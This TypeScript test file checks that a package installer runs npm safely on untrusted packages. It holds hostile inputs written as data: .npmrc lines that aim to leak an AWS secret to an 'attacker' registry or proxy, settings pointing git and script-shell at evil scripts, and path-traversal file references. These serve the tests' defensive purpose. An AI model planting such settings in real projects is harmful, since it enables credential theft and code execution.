import { createHash } from 'node:crypto'
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { buffer } from 'node:stream/consumers'
import { createGzip } from 'node:zlib'
import { pack } from 'tar-stream'
import { afterEach, describe, expect, it } from 'vitest'
import { Builder } from './builder.ts'
import { PackageInstaller } from './package-install.ts'
import { requestFor, RUNTIME_DIR, runFunction, type TemporaryFolder } from './testing/bundled-function.ts'
import { useFolders } from './testing/use-builder.ts'

const folder = useFolders()
const installers: PackageInstaller[] = []
afterEach(() => {
  for (const installer of installers.splice(0)) installer.close()
})

function installer(cacheDir: string, npmPath = 'npm', environment = process.env): PackageInstaller {
  const made = new PackageInstaller({ cacheDir, npmPath, environment })
  installers.push(made)
  return made
}

/** A package that needs another one, included as a tarball, so that no registry is used. */
async function packageWithTarball(code = `module.exports = 'installed'`): Promise<TemporaryFolder> {
  const made = folder({
    'hello.ts': `import dep from 'dep'; export const hello = () => new Response(dep)`,
    'package.json': `{ "name": "app", "dependencies": { "dep": "file:vendor/dep.tgz" } }`,
    'package-lock.json': JSON.stringify({
      name: 'app',
      lockfileVersion: 3,
      packages: {
        '': { name: 'app', dependencies: { dep: 'file:vendor/dep.tgz' } },
        'node_modules/dep': { version: '1.0.0', resolved: 'file:vendor/dep.tgz' },
      },
    }),
    'vendor/readme.txt': '',
  })
  await writeFile(made.path('vendor/dep.tgz'), await tarball(code))
  return made
}

function tarball(code: string): Promise<Buffer> {
  const scripts = { postinstall: `node -e "require('fs').writeFileSync('ran.txt', '')"` }
  const tar = pack()
  tar.entry({ name: 'package/package.json' }, JSON.stringify({ name: 'dep', version: '1.0.0', scripts }))
  tar.entry({ name: 'package/index.js' }, code)
  tar.finalize()
  return buffer(tar.pipe(createGzip()))
}

interface Registry extends AsyncDisposable {
  url: string
  /** One entry per request. */
  asked: { path: string; authorization: string | undefined }[]
  /** A package whose lock file takes `dep` from this registry. */
  package(npmrc: string): TemporaryFolder
}

/** The test's own registry, on loopback, with one package. */
async function registry(): Promise<Registry> {
  const content = await tarball(`module.exports = 'of the registry'`)
  const asked: Registry['asked'] = []
  const server = createServer((request, response) => {
    asked.push({ path: request.url!, authorization: request.headers.authorization })
    response.end(content)
  })
  await new Promise<void>(listening => server.listen(0, '127.0.0.1', listening))
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  const integrity = `sha512-${createHash('sha512').update(content).digest('base64')}`
  return {
    url,
    asked,
    package: npmrc =>
      folder({
        '.npmrc': npmrc,
        'package.json': `{ "name": "app", "dependencies": { "dep": "1.0.0" } }`,
        'package-lock.json': JSON.stringify({
          name: 'app',
          lockfileVersion: 3,
          packages: {
            '': { name: 'app', dependencies: { dep: '1.0.0' } },
            // npm asks the registry of its settings in place of this one, which is what it was locked with by default.
            'node_modules/dep': {
              version: '1.0.0',
              resolved: 'https://registry.npmjs.org/dep/-/dep-1.0.0.tgz',
              integrity,
            },
          },
        }),
      }),
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await new Promise(closed => server.close(closed))
    },
  }
}

/** The environment of an agent whose user has npm settings; nothing in it leads to a real registry. */
function agentEnvironment(home: TemporaryFolder, more: Record<string, string> = {}): NodeJS.ProcessEnv {
  return { PATH: process.env['PATH'], HOME: home.dir, npm_config_cache: home.path('npm'), ...more }
}

describe('packages that are not installed', () => {
  it('are installed elsewhere, without running scripts, and bundled', async () => {
    const made = await packageWithTarball()
    const cache = folder()
    const before = readdirSync(made.dir)
    const builder = new Builder({ runtimeDir: RUNTIME_DIR, cacheDir: cache.dir, environment: process.env })
    const bundled = await builder.bundle(requestFor(made.dir), new AbortController().signal)
    const { dir, entry } = await bundled.write(folder().path('1'))
    {
      await using running = await runFunction(`${dir}/${entry}`)
      expect(await running.get()).toBe('installed')
    }
    expect(readdirSync(made.dir)).toEqual(before)
    made.write({ 'node_modules/dep/package.json': '{}', 'node_modules/dep/index.js': `module.exports = 'installed'` })
    expect((await builder.bundle(requestFor(made.dir), new AbortController().signal)).hash).toBe(bundled.hash)
    await builder.close()
    const [installed] = readdirSync(cache.dir)
    expect(readdirSync(cache.path(`${installed}/node_modules/dep`)).sort()).toEqual(['index.js', 'package.json'])
  })

  it('are installed once for a lock file, by one of several concurrent builds', async () => {
    const made = await packageWithTarball()
    const cache = folder()
    const one = installer(cache.dir)
    const found = await Promise.all([one.install(made.dir), one.install(made.dir)])
    expect(found[0]).toEqual(found[1])
    const later = installer(cache.dir, '/no/such/program')
    expect(await later.install(made.dir)).toEqual(found[0])
    expect(readdirSync(cache.dir)).toHaveLength(1)
  })

  it('are not installed if node_modules has them, if nothing is locked, or if nothing is needed', async () => {
    const one = installer(folder().dir, '/no/such/program')
    const made = await packageWithTarball()
    made.write({ 'node_modules/dep/package.json': '{}' })
    expect(await one.install(made.dir)).toBeUndefined()
    const unlocked = folder({ 'package.json': `{ "dependencies": { "dep": "1" } }` })
    expect(await one.install(unlocked.dir)).toBeUndefined()
    expect(await one.install(folder().dir)).toBeUndefined()
    expect(await one.install(folder({ 'package.json': '{ broken', 'package-lock.json': '' }).dir)).toBeUndefined()
  })

  it('fail the build with the last lines of npm and the command to run, and leave nothing', async () => {
    const made = await packageWithTarball()
    const cache = folder({ 'npm.sh': '#!/bin/sh\necho one line >&2\nexit 3\n' })
    chmodSync(cache.path('npm.sh'), 0o755)
    await expect(installer(cache.path('cache'), cache.path('npm.sh')).install(made.dir)).rejects.toMatchObject({
      code: 'BUILD_FAILED',
      message: expect.stringContaining('npm exited with 3'),
      hint: `Run it yourself: cd ${made.dir} && npm ci`,
      logs: ['one line'],
    })
    expect(readdirSync(cache.path('cache'))).toEqual([])
    await expect(installer(cache.path('cache'), '/no/such/program').install(made.dir)).rejects.toMatchObject({
      code: 'BUILD_FAILED',
      message: expect.stringContaining('npm could not be started'),
    })
  })

  it('are not looked for outside the package', async () => {
    const made = folder({
      'package.json': `{ "dependencies": { "dep": "file:../dep" } }`,
      'package-lock.json': JSON.stringify({
        packages: { '../dep': {}, 'node_modules/dep': { resolved: '../dep', link: true } },
      }),
    })
    await expect(installer(folder().dir).install(made.dir)).rejects.toMatchObject({
      code: 'BUILD_FAILED',
      hint: `Run: cd ${made.dir} && npm ci`,
    })
  })
})

describe('npm, run for an untrusted package,', () => {
  const secret = { AWS_SECRET_ACCESS_KEY: 'secret-of-the-host' }

  it('asks the registry that the package names, with the credentials that it names', async () => {
    await using made = await registry()
    const home = folder({ '.npmrc': 'registry=http://127.0.0.1:9/' })
    const host = made.url.slice('http:'.length)
    const app = made.package(`registry = ${made.url}\n${host}:_authToken="of-the-package"\n`)
    const installed = await installer(folder().dir, 'npm', agentEnvironment(home)).install(app.dir)
    expect(readFileSync(`${installed!.folder}/node_modules/dep/index.js`, 'utf8')).toContain('of the registry')
    expect(made.asked).toEqual([{ path: '/dep/-/dep-1.0.0.tgz', authorization: 'Bearer of-the-package' }])
    expect(existsSync(`${installed!.folder}/.npmrc`)).toBe(false)
  })

  it("uses the user's own settings, with the variables that they name", async () => {
    await using made = await registry()
    const host = made.url.slice('http:'.length)
    const home = folder({ '.npmrc': `registry=${made.url}\n${host}:_authToken=\${NPM_TOKEN}\n` })
    const environment = agentEnvironment(home, { NPM_TOKEN: 'of-the-user' })
    await installer(folder().dir, 'npm', environment).install(made.package('').dir)
    expect(made.asked).toEqual([{ path: '/dep/-/dep-1.0.0.tgz', authorization: 'Bearer of-the-user' }])
  })

  it("hands nothing of the agent's environment to the package's registry", async () => {
    await using own = await registry()
    await using attacker = await registry()
    const home = folder({ '.npmrc': `registry=${own.url}\n` })
    const app = own.package(
      [
        `registry=${attacker.url}\${AWS_SECRET_ACCESS_KEY}/`,
        `"registry"=${attacker.url}\${AWS_SECRET_ACCESS_KEY}/`,
        `proxy=${attacker.url}`,
        `https-proxy=${attacker.url}`,
        `strict-ssl=false`,
        `userconfig=./user-settings`,
        `cache=./\${AWS_SECRET_ACCESS_KEY}`,
      ].join('\n'),
    )
    app.write({ 'user-settings': `registry=${attacker.url}\${AWS_SECRET_ACCESS_KEY}/` })
    await installer(folder().dir, 'npm', agentEnvironment(home, secret)).install(app.dir)
    expect(attacker.asked).toEqual([])
    expect(own.asked.map(({ path }) => path)).toEqual(['/dep/-/dep-1.0.0.tgz'])
  })

  it('gets no more of the environment than it needs, and no setting that names a program', async () => {
    const made = await packageWithTarball()
    made.write({
      '.npmrc': 'git=./evil.sh\nscript-shell=./evil.sh\nnode-options=--require ./evil.js\nlegacy-peer-deps=true\n',
    })
    const out = folder({
      'npm.sh': `#!/bin/sh\nenv > "$OUT.env"; echo "$@" > "$OUT.args"; cat .npmrc > "$OUT.npmrc"\n`,
    })
    chmodSync(out.path('npm.sh'), 0o755)
    // The user's settings name OUT, so that it is passed on.
    const home = folder({ '.npmrc': 'x=${OUT}' })
    const environment = agentEnvironment(home, { ...secret, OUT: out.path('seen'), NODE_OPTIONS: '--no-warnings' })
    await installer(folder().dir, out.path('npm.sh'), environment).install(made.dir)
    const names = readFileSync(out.path('seen.env'), 'utf8').match(/^\w+(?==)/gm)
    const ofTheShell = ['PWD', 'OLDPWD', 'SHLVL', '_']
    expect(names?.filter(name => !ofTheShell.includes(name)).sort()).toEqual(
      ['COREPACK_ENABLE_PROJECT_SPEC', 'HOME', 'OUT', 'PATH', 'npm_config_cache'].sort(),
    )
    expect(readFileSync(out.path('seen.npmrc'), 'utf8')).toBe('legacy-peer-deps=true\n')
    expect(readFileSync(out.path('seen.args'), 'utf8')).toMatch(
      /--ignore-scripts .*--script-shell= .*--git=\S+package\.json\/git/,
    )
  })

  it('runs no program for git, whatever package and lock file say', async () => {
    const evil = folder({ git: `#!/bin/sh\ntouch "$(dirname "$0")/PWNED"\n` })
    chmodSync(evil.path('git'), 0o755)
    const home = folder({ '.npmrc': 'registry=http://127.0.0.1:9/' })
    const environment = agentEnvironment(home, { PATH: `${evil.dir}:${process.env['PATH']}` })
    const url = 'git+ssh://git@127.0.0.1:9/x.git#0123456789012345678901234567890123456789'
    const locked = (packages: object) => ({
      '.npmrc': `git=${evil.path('git')}`,
      'package.json': `{ "name": "app", "dependencies": { "x": "${url}" } }`,
      'package-lock.json': JSON.stringify({ name: 'app', lockfileVersion: 3, packages }),
    })
    const told = folder(locked({ '': { dependencies: { x: url } }, 'node_modules/x': { resolved: url } }))
    const cache = folder()
    await expect(installer(cache.dir, 'npm', environment).install(told.dir)).rejects.toMatchObject({
      code: 'BUILD_FAILED',
      message: expect.stringContaining('does not run git'),
      hint: `Run it yourself: cd ${told.dir} && npm ci`,
    })
    // The lock file does not mention it, so npm itself finds out.
    const silent = folder(locked({ '': { dependencies: { x: url } }, 'node_modules/x': { version: '1.0.0' } }))
    await expect(installer(cache.dir, 'npm', environment).install(silent.dir)).rejects.toMatchObject({
      code: 'BUILD_FAILED',
    })
    const first = folder(locked({ '': {} }))
    first.write({
      'package-lock.json': JSON.stringify({ lockfileVersion: 1, dependencies: { x: { version: url, from: url } } }),
    })
    await expect(installer(cache.dir, 'npm', environment).install(first.dir)).rejects.toMatchObject({
      message: expect.stringContaining('does not run git'),
    })
    expect(readdirSync(evil.dir)).toEqual(['git'])
    expect(readdirSync(cache.dir)).toEqual([])
  })

  it('says what it did not take from the environment if the installation fails', async () => {
    const made = await packageWithTarball()
    made.write({ '.npmrc': '//127.0.0.1:9/:_authToken=${NPM_TOKEN}' })
    await expect(installer(folder().dir, '/no/such/program').install(made.dir)).rejects.toMatchObject({
      hint: expect.stringMatching(/^Its \.npmrc takes \S+_authToken from the environment.*Run it yourself: cd /),
    })
  })

  it('takes no local package from outside, however the path is written', async () => {
    const made = folder({
      'secret.tgz': '',
      'app/package.json': `{ "dependencies": { "dep": "1" } }`,
      'app/in.tgz': '',
    })
    const app = made.path('app')
    symlinkSync(made.path('secret.tgz'), `${app}/link.tgz`)
    mkdirSync(`${app}/~`)
    for (const path of [
      '../secret.tgz',
      made.path('secret.tgz'),
      '~/secret.tgz',
      'x/%2e%2e/%2e%2e/secret.tgz',
      'link.tgz',
    ]) {
      const packages = { 'node_modules/dep': { resolved: `file:${path}` } }
      await writeFile(`${app}/package-lock.json`, JSON.stringify({ lockfileVersion: 3, packages }))
      await expect(installer(folder().dir, '/no/such/program').install(app), path).rejects.toMatchObject({
        message: expect.stringContaining('is outside the package'),
      })
    }
  })
})
